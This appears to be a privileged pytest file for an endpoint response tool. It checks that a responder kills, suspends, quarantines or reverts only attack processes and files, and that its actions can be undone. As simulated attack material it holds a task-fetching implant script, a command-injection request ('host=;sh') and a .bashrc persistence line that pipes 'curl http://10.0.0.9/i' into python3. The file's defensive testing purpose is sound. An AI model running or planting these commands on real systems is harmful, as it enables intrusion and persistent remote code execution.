"""The responder on real processes: dry-run records and touches nothing, enforce acts,
an incident's later versions (and a restarted responder) never ask twice, the rate limit
holds, off does nothing, and an action is undone through the audit trail; with the
analysis's lineage it reaches a piped implant whose short-lived child raised the signal,
and never the service the attack came in through."""

import dataclasses
import itertools
import os
import socket
import sys
import threading
from pathlib import Path
from time import time_ns

import msgspec
import pytest

from provarmor.graph.lineage import LineageClassifier
from provarmor.model.actions import Action
from provarmor.model.attack import AttackRef
from provarmor.model.event import Endpoint, Event, ProcessRef
from provarmor.model.incident import Incident, IncidentEdge, IncidentNode, NodeRole
from provarmor.response.audit import AuditTrail, Phase, read_audit
from provarmor.response.policy import Mode, Policy, PolicyRule, RateLimit
from provarmor.response.records import ActionKind, Outcome
from provarmor.response.responder import Responder
from provarmor.testing.factories import make_event

from .conftest import gone, move_into, state_of, target_of, wait_for

pytestmark = pytest.mark.privileged


def story(context, *pids: int, severity: str = "high") -> Incident:
    nodes = []
    for pid in pids:
        target = target_of(pid, context)
        nodes.append(
            IncidentNode(
                id=target.entity_id,
                kind="process",
                label="sleep",
                role=NodeRole.TERMINAL,
                pid=pid,
                executable=target.executable,
                alert_ids=(f"alert-{pid}",),
            )
        )
    return Incident(
        id="inc-1",
        campaign_id="c",
        host_id=context.host.id,
        title="test incident",
        summary="",
        severity=severity,
        score=10.0,
        first_ts=1,
        last_ts=2,
        updated_ts=2,
        root_cause="",
        nodes=tuple(nodes),
        techniques=(AttackRef(id="T1059.004", name="Unix Shell"),),
    )


def policy(mode: Mode, *actions: ActionKind, limit: int = 20, **conditions) -> Policy:
    rule = PolicyRule(name="contain", actions=actions, **conditions)
    return Policy(mode=mode, rules=(rule,), rate_limit=RateLimit(actions=limit, seconds=3600))


def test_dry_run_records_what_it_would_do_and_touches_nothing(context, spawn):
    process = spawn("sleep", "300")
    responder = Responder.open(policy(Mode.DRY_RUN, ActionKind.KILL), context)
    [record] = responder.on_incident(story(context, process.pid), rule_ids=set())
    assert record.outcome is Outcome.DRY_RUN
    assert record.message.startswith(f"would kill pid {process.pid}")
    assert process.poll() is None
    records, _ = read_audit(context.settings.audit_file)
    assert [r.phase for r in records] == [Phase.PROPOSED, Phase.RESULT]
    assert records[0].request.reason.startswith("incident inc-1 (high)")
    assert records[0].request.requested_by == "policy:contain"


def test_enforce_acts_once_per_incident_and_target(context, spawn):
    process = spawn("sleep", "300")
    incident = story(context, process.pid)
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.SUSPEND, ActionKind.KILL), context)
    first = responder.on_incident(incident, rule_ids=set())
    assert [(r.request.kind, r.outcome) for r in first] == [
        (ActionKind.SUSPEND, Outcome.DONE),
        (ActionKind.KILL, Outcome.DONE),
    ]
    process.wait(timeout=5)
    assert responder.on_incident(msgspec.structs.replace(incident, version=2), rule_ids=set()) == []
    again = Responder.open(responder.policy, context)  # a restarted agent
    assert again.on_incident(incident, rule_ids=set()) == []


def test_conditions_and_off(context, spawn):
    process = spawn("sleep", "300")
    incident = story(context, process.pid, severity="medium")
    strict = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL, severity="high"), context)
    assert strict.on_incident(incident, rule_ids=set()) == []
    other = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL, rule_ids=("r-9",)), context)
    assert other.on_incident(incident, rule_ids={"r-1"}) == []
    technique = Responder.open(policy(Mode.OFF, ActionKind.KILL, techniques=("T1059",)), context)
    assert technique.on_incident(incident, rule_ids=set()) == []
    assert process.poll() is None
    assert not context.settings.audit_file.exists()


def test_a_scoped_responder_leaves_incidents_with_a_process_outside_the_scope_alone(
    context, spawn, scope_group
):
    inside, outside = spawn("sleep", "300"), spawn("sleep", "300")
    move_into(scope_group, inside.pid)
    settings = dataclasses.replace(context.settings, process_scope=f"/{scope_group.name}")
    scoped = dataclasses.replace(context, settings=settings)
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), scoped)
    assert responder.on_incident(story(context, outside.pid, inside.pid), rule_ids=set()) == []
    assert responder.counters["out_of_scope"] == 1
    assert outside.poll() is None and inside.poll() is None
    assert not settings.audit_file.exists()
    [record] = responder.on_incident(story(context, inside.pid), rule_ids=set())
    assert record.outcome is Outcome.DONE
    inside.wait(timeout=5)
    assert outside.poll() is None


def test_a_scoped_responder_leaves_an_incident_none_of_whose_processes_it_saw_alone(
    context, spawn, scope_group, tmp_path
):
    """Another engineer's test on a shared lab machine: its processes are gone by the time
    its incident comes (nothing says they ran outside the lab's jails), and its dropped file
    must not be quarantined. An incident once seen with a live process inside the scope
    stays the scope's after the kill."""
    outside = spawn("sleep", "300")
    dropped = tmp_path / "envx"
    dropped.write_text("#!/bin/sh\n")
    settings = dataclasses.replace(context.settings, process_scope=f"/{scope_group.name}")
    scoped = dataclasses.replace(context, settings=settings)
    gone = story(context, outside.pid)
    outside.kill()
    outside.wait(timeout=5)
    gone = msgspec.structs.replace(gone, impacted_files=(str(dropped),))
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.QUARANTINE), scoped)
    assert responder.on_incident(gone, rule_ids=set()) == []
    assert responder.counters["out_of_scope"] == 1 and dropped.exists()

    inside, child = spawn("sleep", "300"), spawn("sleep", "300")
    move_into(scope_group, inside.pid)
    incident = msgspec.structs.replace(story(context, inside.pid), id="inc-2")
    later = story(context, inside.pid, child.pid)  # a later version names one more process
    killer = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), scoped)
    [kill] = killer.on_incident(incident, rule_ids=set())
    assert kill.outcome is Outcome.DONE
    inside.wait(timeout=5)
    child.kill()
    child.wait(timeout=5)
    later = msgspec.structs.replace(later, id="inc-2", version=2)
    [late] = killer.on_incident(later, rule_ids=set())
    assert late.request.target.pid == child.pid and late.outcome is Outcome.REFUSED
    assert killer.counters["out_of_scope"] == 0


def test_the_rate_limit_refuses_past_its_count(context, spawn):
    first, second = spawn("sleep", "300"), spawn("sleep", "300")
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL, limit=1), context)
    results = responder.on_incident(story(context, first.pid, second.pid), rule_ids=set())
    assert [r.outcome for r in results] == [Outcome.DONE, Outcome.REFUSED]
    assert "rate limit" in results[1].message
    assert second.poll() is None
    assert responder.counters["rate_limited"] == 1


def test_an_action_refused_on_the_host_does_not_use_up_the_rate_limit(context, spawn):
    """Kills of signalling processes that are gone touch nothing: they leave the host's
    count for the implant that still runs."""
    finished, implant = spawn("sleep", "0.01"), spawn("sleep", "300")
    incident = story(context, finished.pid, implant.pid)
    finished.wait(timeout=5)
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL, limit=1), context)
    results = responder.on_incident(incident, rule_ids=set())
    assert [r.outcome for r in results] == [Outcome.REFUSED, Outcome.DONE]
    assert "gone" in results[0].message
    implant.wait(timeout=5)


def test_undo_resumes_a_suspended_process(context, spawn):
    process = spawn("sleep", "300")
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.SUSPEND), context)
    [done] = responder.on_incident(story(context, process.pid), rule_ids=set())
    wait_for(lambda: state_of(process.pid) == "T", what="stopped")
    undone = responder.undo(done, requested_by="alice", reason="false positive")
    assert undone.phase is Phase.UNDONE and undone.outcome is Outcome.DONE
    assert undone.undoes == done.request.id and undone.request.requested_by == "alice"
    wait_for(lambda: state_of(process.pid) == "S", what="running again")
    with pytest.raises(ValueError, match="cannot be undone"):
        responder.undo(undone, requested_by="alice")


def test_a_request_with_the_wrong_kind_of_target_is_refused(context):
    from provarmor.response.records import ActionRequest, FileTarget

    responder = Responder.open(Policy(), context)
    request = ActionRequest(
        id="x", kind=ActionKind.KILL, target=FileTarget(path="/tmp/x"), requested_by="t"
    )
    record = responder.run(request)
    assert record.outcome is Outcome.REFUSED and "ProcessTarget" in record.message


def test_a_host_failure_is_a_failed_result_not_a_crash(context, tmp_path):
    """The quarantine store cannot be made (its folder is a file): the action fails, is
    audited, and the responder goes on."""
    import dataclasses

    from provarmor.response.records import ActionRequest, FileTarget

    blocked = tmp_path / "not-a-folder"
    blocked.write_text("")
    settings = dataclasses.replace(context.settings, state_dir=blocked / "response")
    broken = dataclasses.replace(context, settings=settings)
    implant = tmp_path / "implant"
    implant.write_text("x")
    responder = Responder(policy=Policy(), context=broken, audit=AuditTrail(tmp_path / "a.jsonl"))
    request = ActionRequest(
        id="q", kind=ActionKind.QUARANTINE, target=FileTarget(path=str(implant)), requested_by="t"
    )
    record = responder.run(request)
    assert record.outcome is Outcome.FAILED and "quarantine" in record.message
    assert implant.read_text() == "x"


IMPLANT = """\
import os, socket, subprocess, sys, time
task = socket.create_connection(("127.0.0.1", int(sys.argv[1]))).recv(256).decode()
child = subprocess.Popen(["sh", "-c", task])
child.wait()
with open(sys.argv[2] + ".tmp", "w") as out:
    out.write(f"{os.getpid()} {child.pid}")
os.rename(sys.argv[2] + ".tmp", sys.argv[2])
time.sleep(300)
"""
SERVER = """\
import os, socket, subprocess, sys, time
def put(path, text):  # whole or not at all: the test reads it as soon as it exists
    with open(path + ".tmp", "w") as out:
        out.write(text)
    os.rename(path + ".tmp", path)
listener = socket.create_server(("127.0.0.1", 0))
put(sys.argv[1] + ".port", str(listener.getsockname()[1]))
connection, _ = listener.accept()
connection.recv(256)
shell = subprocess.Popen(["sh", "-c", sys.argv[2]])
put(sys.argv[1], str(shell.pid))
time.sleep(300)
"""


class TaskServer:
    """The attacker's server on 127.0.0.1: hands one task to the implant that calls."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        connection, _ = self.listener.accept()
        with connection:
            connection.sendall(b"id >/dev/null")

    def close(self) -> None:
        self.listener.close()
        self.thread.join(timeout=5)


def read_when_written(path: Path) -> str:
    wait_for(path.exists, timeout=20, what=str(path))
    return path.read_text()


class Seen:
    """Events describing what the test's real processes did, under their real entity ids
    (the lineage classifier's input, as the sensor would report them)."""

    def __init__(self, context) -> None:
        self.context = context
        self.ids: dict[int, str] = {os.getpid(): target_of(os.getpid(), context).entity_id}
        self.classifier = LineageClassifier()

    def started(self, pid: int, parent: int, exe: str, *args: str, alive: bool = True) -> None:
        self.ids[pid] = target_of(pid, self.context).entity_id if alive else f"exited-{pid}"
        self.saw(make_event(Action.FORK, pid=pid, ppid=parent, exe=exe))
        self.saw(make_event(Action.EXEC, pid=pid, exe=exe, args=(exe, *args), path=exe))

    def saw(self, event: Event, **fields: object) -> None:
        pid, parent = event.process.pid, event.process.parent
        process = msgspec.structs.replace(
            event.process,
            entity_id=self.ids[pid],
            parent=None if parent is None else ProcessRef(entity_id=self.ids[parent.pid]),
        )
        self.classifier.observe(msgspec.structs.replace(event, process=process, **fields))

    def story(self, *pids: int, signalling: int) -> Incident:
        nodes = tuple(
            IncidentNode(
                id=self.ids[pid],
                kind="process",
                label=str(pid),
                pid=pid,
                first_ts=index,
                alert_ids=("alert-1",) if pid == signalling else (),
            )
            for index, pid in enumerate(pids)
        )
        edges = tuple(
            IncidentEdge(src=self.ids[a], dst=self.ids[b], action="fork", first_ts=1, last_ts=1)
            for a, b in itertools.pairwise(pids)
        )
        return msgspec.structs.replace(story(self.context), nodes=nodes, edges=edges)


def start_implant(seen: Seen, shell: int, tasks: TaskServer, pids: Path) -> tuple[int, int]:
    """The shell piped the implant into ``python3 -``; it took a task from the attacker's
    server and ran it in a short-lived child (gone now). Returns (implant, child)."""
    implant, child = map(int, read_when_written(pids).split())
    assert gone(child) and not gone(implant)
    seen.started(implant, shell, sys.executable, "-")
    seen.saw(make_event(Action.CONNECT, pid=implant, ip="127.0.0.1", port=tasks.port))
    seen.saw(make_event(Action.RECV, pid=implant, ip="127.0.0.1", port=tasks.port))
    seen.started(child, implant, "/bin/sh", "-c", "id", alive=False)
    return implant, child


def test_a_piped_implant_whose_child_signalled_is_killed_and_its_plain_parent_kept(
    context, spawn, tmp_path
):
    """``sh -c 'cat implant.py | python3 - ...; sleep 300'`` started by a plain process:
    the implant (it took its task from a remote server: raised) is killed through the
    lineage; the shell that piped it has no raised lineage and lives on."""
    (tmp_path / "implant.py").write_text(IMPLANT)
    tasks = TaskServer()
    pids = tmp_path / "implant.pids"
    command = f"cat {tmp_path}/implant.py | {sys.executable} - {tasks.port} {pids}; sleep 300"
    shell = spawn("sh", "-c", command)
    seen = Seen(context)
    seen.started(shell.pid, os.getpid(), "/bin/sh", "-c", command)
    implant, child = start_implant(seen, shell.pid, tasks, pids)
    tasks.close()
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), context)
    incident = seen.story(shell.pid, implant, child, signalling=child)
    results = responder.on_incident(incident, rule_ids=set(), side=seen.classifier)
    assert [(r.request.target.pid, r.outcome) for r in results] == [
        (implant, Outcome.DONE),
        (child, Outcome.REFUSED),  # gone before the incident was seen
    ]
    wait_for(lambda: gone(implant), what="the implant's end")
    assert shell.poll() is None and not gone(shell.pid)


def test_a_victim_server_whose_child_ran_the_implant_is_kept_and_only_the_child_tree_killed(
    context, spawn, tmp_path
):
    """A server accepted the attacker's connection and ran a shell for it (a web shell);
    that shell piped the implant into python3. The server took connections before anything
    raised it: it is the victim, never a target; its shell's tree (the implant) is killed."""
    (tmp_path / "implant.py").write_text(IMPLANT)
    tasks = TaskServer()
    pids, spawned = tmp_path / "implant.pids", tmp_path / "shell.pid"
    command = f"cat {tmp_path}/implant.py | {sys.executable} - {tasks.port} {pids}"
    server = spawn(sys.executable, "-c", SERVER, str(spawned), command)
    port = int(read_when_written(Path(f"{spawned}.port")))
    with socket.create_connection(("127.0.0.1", port)) as attacker:
        attacker.sendall(b"GET /ping?host=;sh HTTP/1.0\r\n\r\n")
        shell = int(read_when_written(spawned))
        seen = Seen(context)
        seen.started(server.pid, os.getpid(), sys.executable, "-c", "server")
        listen = make_event(Action.LISTEN, pid=server.pid)
        seen.saw(listen, source=Endpoint(ip="127.0.0.1", port=port))
        local_port = attacker.getsockname()[1]
        seen.saw(make_event(Action.ACCEPT, pid=server.pid, ip="127.0.0.1", port=local_port))
        seen.saw(make_event(Action.RECV, pid=server.pid, ip="127.0.0.1", port=local_port))
        seen.started(shell, server.pid, "/bin/sh", "-c", command)
        implant, child = start_implant(seen, shell, tasks, pids)
    tasks.close()
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), context)
    incident = seen.story(server.pid, shell, implant, child, signalling=child)
    results = responder.on_incident(incident, rule_ids=set(), side=seen.classifier)
    assert [(r.request.target.pid, r.outcome) for r in results] == [
        (shell, Outcome.DONE),  # its tree: the shell and the implant
        (implant, Outcome.REFUSED),
        (child, Outcome.REFUSED),
    ]
    assert "killed 2 process(es)" in results[0].message, results[0].message
    wait_for(lambda: gone(implant) and gone(shell), what="the shell's tree's end")
    assert server.poll() is None and not gone(server.pid)


def test_a_bashrc_line_the_attack_appended_is_reverted_and_the_undo_puts_it_back(context, tmp_path):
    """The agent took its baseline at start; the attack's signalling shell appended a line
    to a user's ~/.bashrc; the incident's revert_file takes exactly that line out (the
    user's own lines stay), and undoing it through the audit trail gives the file's bytes
    back."""
    rc = tmp_path / "home" / "dev" / ".bashrc"
    rc.parent.mkdir(parents=True)
    rc.write_bytes(b"# the user's own\nalias ll='ls -l'")  # no final newline
    patterns = (str(tmp_path / "home/*/.bashrc"),)
    settings = dataclasses.replace(context.settings, persistence_files=patterns)
    local = dataclasses.replace(context, settings=settings)
    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.REVERT_FILE), local)
    responder.keep_baseline()
    with rc.open("ab") as handle:
        handle.write(b"\nnohup sh -c 'curl -s http://10.0.0.9/i | python3 -' &\n")
    attacked = rc.read_bytes()
    node = IncidentNode(id="sh", kind="process", label="sh", pid=99999, alert_ids=("a",))
    written = IncidentNode(id="rc", kind="file", label=".bashrc", path=str(rc))
    write = IncidentEdge(src="sh", dst="rc", action="write", first_ts=time_ns(), last_ts=0)
    incident = msgspec.structs.replace(
        story(local), nodes=(node, written), edges=(write,), impacted_files=(str(rc),)
    )
    (record,) = responder.on_incident(incident, rule_ids=set())
    assert record.request.kind is ActionKind.REVERT_FILE
    assert record.outcome is Outcome.DONE, record.message
    assert rc.read_bytes() == b"# the user's own\nalias ll='ls -l'"

    undone = responder.undo_by_id(record.request.id, requested_by="analyst")
    assert undone.outcome is Outcome.DONE, undone.message
    assert rc.read_bytes() == attacked
